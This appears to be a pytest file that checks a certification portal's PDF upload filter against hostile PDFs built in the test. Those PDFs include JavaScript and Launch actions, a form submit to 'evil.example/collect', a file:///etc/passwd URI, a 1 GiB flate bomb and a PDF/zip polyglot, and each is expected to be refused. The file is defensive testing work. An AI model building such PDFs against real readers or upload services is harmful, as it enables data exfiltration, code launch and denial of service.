"""Hostile PDFs built in the test are refused with a specific code, in bounded time."""

from __future__ import annotations

import io
import logging
import time
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from certportal.filegate import Code, FileRejected, check_pdf, check_upload
from certportal.filegate._sandbox import DEFAULT_TIMEOUT

from . import hostile


def refusal(data: bytes, **options: Any) -> FileRejected:
    with pytest.raises(FileRejected) as refused:
        check_pdf(data, **options)
    return refused.value


def test_a_plain_generated_pdf_passes() -> None:
    info = check_pdf(hostile.pdf_bytes(hostile.blank_pdf()))

    assert info.page_count == 1
    assert info.page_sizes == ((595.0, 842.0),)
    assert info.has_text is False


def test_open_action_javascript_is_active_content() -> None:
    data = hostile.with_open_action(hostile.javascript_action())

    assert refusal(data).code == Code.PDF_ACTIVE_CONTENT


def test_open_action_launch_is_active_content() -> None:
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"))

    assert refusal(hostile.with_open_action(launch)).code == Code.PDF_ACTIVE_CONTENT


def test_open_action_to_the_first_page_is_harmless() -> None:
    pdf = hostile.blank_pdf()
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])

    assert check_pdf(hostile.pdf_bytes(pdf)).page_count == 1


def test_document_javascript_name_tree_is_active_content() -> None:
    pdf = hostile.blank_pdf()
    script = pdf.make_indirect(hostile.javascript_action())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", script])))

    assert refusal(hostile.pdf_bytes(pdf)).code == Code.PDF_ACTIVE_CONTENT


def test_page_additional_action_is_active_content() -> None:
    pdf = hostile.blank_pdf()
    pdf.pages[0].AA = Dictionary(O=hostile.javascript_action())

    assert refusal(hostile.pdf_bytes(pdf)).code == Code.PDF_ACTIVE_CONTENT


def test_script_nested_deep_in_direct_objects_is_found() -> None:
    pdf = hostile.blank_pdf()
    deep = Array([Dictionary(Next=Array([hostile.javascript_action()]))])
    pdf.Root.Extra = Dictionary(Layers=Array([deep]))

    assert refusal(hostile.pdf_bytes(pdf)).code == Code.PDF_ACTIVE_CONTENT


def test_embedded_file_attachment_is_active_content() -> None:
    assert refusal(hostile.with_attachment()).code == Code.PDF_ACTIVE_CONTENT


def test_file_attachment_annotation_is_active_content() -> None:
    pdf = hostile.blank_pdf()
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20]
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])

    assert refusal(hostile.pdf_bytes(pdf)).code == Code.PDF_ACTIVE_CONTENT


@pytest.mark.parametrize(
    "action",
    [
        Dictionary(S=Name.JavaScript, JS=String("this.print()")),
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
        Dictionary(S=Name.ImportData, F=String("data.fdf")),
        Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.URI, URI=String("\\\\fileserver\\share\\x.exe")),
    ],
    ids=["js", "launch", "submit", "import", "gotor", "file-uri", "js-uri", "unc"],
)
def test_link_with_active_action_is_refused(action: Dictionary) -> None:
    assert refusal(hostile.with_link(action)).code == Code.PDF_ACTIVE_CONTENT


@pytest.mark.parametrize(
    "uri",
    ["https://www.hainatest.example/", "mailto:office@example.cn", "www.cnca.gov.cn"],
)
def test_plain_web_and_mail_links_are_allowed(uri: str) -> None:
    # Typed letters carry the company's web site or e-mail as links; a click is
    # the reader's choice, and reviewers only ever see rendered images.
    data = hostile.with_link(Dictionary(S=Name.URI, URI=String(uri)))

    assert check_pdf(data).page_count == 1


def test_xfa_form_is_active_content() -> None:
    pdf = hostile.blank_pdf()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)

    assert refusal(hostile.pdf_bytes(pdf)).code == Code.PDF_ACTIVE_CONTENT


def test_empty_user_password_with_owner_password_is_accepted() -> None:
    encryption = pikepdf.Encryption(owner="centre-owner", user="")
    data = hostile.pdf_bytes(hostile.blank_pdf(), encryption=encryption)

    assert check_pdf(data).encrypted is True


def test_user_password_is_refused_as_encrypted() -> None:
    encryption = pikepdf.Encryption(owner="centre-owner", user="1234")
    data = hostile.pdf_bytes(hostile.blank_pdf(), encryption=encryption)

    assert refusal(data).code == Code.PDF_ENCRYPTED


def test_flate_bomb_in_page_content_is_refused_within_limits(
    caplog: pytest.LogCaptureFixture,
) -> None:
    data = hostile.flate_bomb(megabytes=1024)
    assert len(data) < 1_100_000  # about 1 MB that inflates to 1 GiB

    caplog.set_level(logging.DEBUG, logger="certportal.filegate")
    started = time.monotonic()
    assert refusal(data).code == Code.PDF_DAMAGED
    elapsed = time.monotonic() - started

    assert elapsed < DEFAULT_TIMEOUT
    [record] = [r for r in caplog.records if hasattr(r, "peak_rss_kb")]
    assert record.peak_rss_kb < 512 * 1024  # test plan: at most 512 MB per file


def test_flate_bomb_in_an_image_is_refused() -> None:
    data = hostile.flate_bomb(megabytes=1024, as_image=True)

    assert refusal(data).code == Code.PDF_DAMAGED


def test_stream_with_26_filters_is_refused() -> None:
    assert refusal(hostile.many_filters(26)).code == Code.PDF_DAMAGED


def test_stream_with_two_filters_is_fine() -> None:
    assert check_pdf(hostile.many_filters(2)).page_count == 1


def test_image_claiming_a_billion_pixels_is_refused() -> None:
    data = hostile.huge_image_header(32_768, 32_768)

    assert refusal(data).code == Code.PDF_IMAGE_TOO_LARGE


def test_eleven_pages_are_too_many_with_the_counts_in_the_message() -> None:
    refused = refusal(hostile.pdf_bytes(hostile.blank_pdf(pages=11)))

    assert refused.code == Code.PDF_TOO_MANY_PAGES
    assert refused.params == {"page_count": 11, "max_pages": 10}


def test_ten_pages_are_allowed() -> None:
    data = hostile.pdf_bytes(hostile.blank_pdf(pages=10))

    assert check_pdf(data).page_count == 10


def test_ten_thousand_pages_are_refused_quickly() -> None:
    data = hostile.pdf_bytes(hostile.blank_pdf(pages=10_000))

    started = time.monotonic()
    assert refusal(data).code == Code.PDF_TOO_MANY_PAGES
    assert time.monotonic() - started < DEFAULT_TIMEOUT / 2


@pytest.mark.parametrize(
    ("width", "height"), [(20_000, 20_000), (595, 15_000), (1, 1), (0, 842)]
)
def test_absurd_page_size_is_refused(width: float, height: float) -> None:
    assert refusal(hostile.with_page_size(width, height)).code == Code.PDF_PAGE_SIZE


def test_rotated_page_reports_its_displayed_size() -> None:
    pdf = hostile.blank_pdf()
    pdf.pages[0].Rotate = 90

    assert check_pdf(hostile.pdf_bytes(pdf)).page_sizes == ((842.0, 595.0),)


def test_pdf_header_after_a_prefix_is_not_a_pdf() -> None:
    data = b"0123456789" + hostile.pdf_bytes(hostile.blank_pdf())

    assert refusal(data).code == Code.NOT_PDF


def test_pdf_that_is_also_a_zip_archive_is_refused() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as writer:
        writer.writestr("run.bat", "calc.exe")
    data = hostile.pdf_bytes(hostile.blank_pdf()) + archive.getvalue()

    assert refusal(data).code == Code.PDF_DAMAGED


def test_sample_truncated_in_half_is_damaged(
    read_shared: Callable[[str], bytes],
) -> None:
    data = read_shared("samples/letters/letter-scanned.pdf")

    assert refusal(data[: len(data) // 2]).code == Code.PDF_DAMAGED


def test_garbage_after_a_pdf_header_is_damaged() -> None:
    assert refusal(b"%PDF-1.7\n" + bytes(range(256)) * 40).code == Code.PDF_DAMAGED


def test_oversized_file_is_refused_before_any_parsing() -> None:
    data = b"%PDF-1.7\n" + bytes(21 * 1024 * 1024)

    started = time.monotonic()
    with pytest.raises(FileRejected) as refused:
        check_upload(data, filename="大文件.pdf", allowed={"pdf"})

    assert refused.value.code == Code.TOO_LARGE
    assert refused.value.params == {"limit_mb": "20"}
    assert time.monotonic() - started < 0.5  # no child process was started


def test_hung_check_is_cut_off_at_the_timeout(
    read_shared: Callable[[str], bytes],
) -> None:
    data = read_shared("samples/letters/letter-scanned.pdf")

    started = time.monotonic()
    assert refusal(data, timeout=0.05).code == Code.TIMEOUT
    assert time.monotonic() - started < 1.0
